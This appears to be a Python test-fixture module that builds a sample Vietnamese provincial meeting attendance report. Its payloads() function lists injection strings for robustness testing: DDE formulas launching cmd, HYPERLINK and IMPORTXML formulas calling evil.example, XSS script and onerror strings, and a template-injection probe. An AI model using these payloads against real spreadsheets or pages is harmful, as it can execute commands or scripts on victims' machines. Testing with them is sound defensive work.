"""A small conference for the writers of reports: three tiers, two districts, every outcome."""

from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

from meetings.reports.figures import (
    PRESENT,
    AttendanceReport,
    EndpointLine,
    GroupLine,
    MeetingHead,
    Outcome,
    PersonLine,
    TierLine,
    tally,
)
from meetings.reports.paper import Paper

ROOT = Path(__file__).resolve().parents[4]
FONTS = next((ROOT / "static" / "vendor").glob("*tinos*"))

HANOI = timezone(timedelta(hours=7))
OPENING = datetime(2025, 5, 15, 8, 0, tzinfo=HANOI)
PROVINCE = TierLine("province", "Cấp tỉnh", 1)
DISTRICT = TierLine("district", "Cấp huyện", 2)
COMMUNE = TierLine("commune", "Cấp xã", 3)
DONG_VAN = GroupLine("026", "Huyện Đồng Văn")
MEO_VAC = GroupLine("027", "Huyện Mèo Vạc")
T1 = EndpointLine("T1", "UBND tỉnh", PROVINCE)
H026 = EndpointLine("H026", "Huyện Đồng Văn", DISTRICT, DONG_VAN)
H027 = EndpointLine("H027", "Huyện Mèo Vạc", DISTRICT, MEO_VAC)
LUNG_CU = EndpointLine("X00715", "Xã Lũng Cú", COMMUNE, DONG_VAN)
PHO_BANG = EndpointLine("X00712", "Thị trấn Phó Bảng", COMMUNE, DONG_VAN)
SON_VI = EndpointLine("X00778", "Xã Sơn Vĩ", COMMUNE, MEO_VAC)
PLACES = (T1, H026, H027, PHO_BANG, LUNG_CU, SON_VI)

HEAD = MeetingHead(
    title="Hội nghị giao ban trực tuyến công tác tháng 5 năm 2025",
    starts_at=OPENING,
    ends_at=OPENING + timedelta(hours=3),
    chair_name="Hoàng Gia Khánh",
    chair_position="Phó Chủ tịch UBND tỉnh",
    total_name="Toàn tỉnh",
    closed_at=OPENING + timedelta(hours=3, minutes=30),
    seal="9f2c4b" * 8,
)
PAPER = Paper(
    parent_body="UBND TỈNH HÀ GIANG",
    issuing_body="VĂN PHÒNG",
    issuer="Văn phòng UBND tỉnh Hà Giang",
    symbol="BC-VP",
    place="Hà Giang",
    dated=date(2025, 5, 15),
    recipients=("Thường trực UBND tỉnh;", "Lãnh đạo Văn phòng;", "Lưu: VT, TH."),
    authority="KT. CHÁNH VĂN PHÒNG",
    signer_title="PHÓ CHÁNH VĂN PHÒNG",
    signer="Nguyễn Thị Hiền",
)
NAMES = ("Sùng Mí Chá", "Lò Thị Nga", "Hoàng Seo Lìn", "Vàng Thị Dợ", "Lù Văn Phong", "Giàng Mí Sính")


def people(each: int = 6) -> list[PersonLine]:
    """`each` persons at every endpoint, one of every outcome but NOT_YET in turn."""
    outcomes = [Outcome.IN_PERSON, Outcome.ONLINE, Outcome.SUBSTITUTE, Outcome.EXCUSED, Outcome.UNEXCUSED]
    lines = []
    for place in PLACES:
        for number in range(each):
            came = outcomes[number % len(outcomes)]
            lines.append(
                PersonLine(
                    full_name=NAMES[number % len(NAMES)],
                    position="Phó Chủ tịch UBND xã",
                    unit_name="UBND " + place.name,
                    endpoint=place,
                    outcome=came,
                    at=OPENING - timedelta(minutes=20 - 5 * number) if came in PRESENT else None,
                    late=came is Outcome.ONLINE,
                    reason="Đi công tác" if came is Outcome.EXCUSED else "",
                    substitute_name="Lù Thị Mai" if came is Outcome.SUBSTITUTE else "",
                )
            )
    return lines


def report(each: int = 6) -> AttendanceReport:
    return tally(HEAD, people(each), endpoints=PLACES)


def poisoned(payload: str) -> AttendanceReport:
    """A report that has the payload in every text that people type."""
    place = replace(LUNG_CU, name=payload, group=GroupLine("026", payload), tier=TierLine("commune", payload))
    line = PersonLine(
        full_name=payload,
        position=payload,
        unit_name=payload,
        endpoint=place,
        outcome=Outcome.EXCUSED,
        reason=payload,
        substitute_name=payload,
    )
    head = replace(HEAD, title=payload, chair_name=payload, chair_position=payload, total_name=payload, seal=payload)
    return tally(head, [line])


def payloads() -> list[str]:
    """A hundred and more texts that some program takes for a command."""
    starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "{=", "'=", '"=']
    bodies = [
        "cmd|'/C calc'!A0",
        "1+1",
        'HYPERLINK("http://evil.example","x")',
        "SUM(A1:A9)",
        'IMPORTXML("http://evil.example","//a")',
        'DDE("cmd";"/C calc";"x")',
        "A1",
    ]
    markup = [
        "<script>alert(1)</script>",
        "</text><script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<b>đậm</b>",
        "<font color=red>",
        "&lt;b&gt; & &amp;",
        "]]><!--",
        "<a href='javascript:alert(1)'>x</a>",
        "{{ 7*7 }}",
        "http://evil.example",
        "mailto:a@b",
        "0912345678",
        "1e9",
        "TRUE",
    ]
    return [start + body for start in starts for body in bodies] + markup
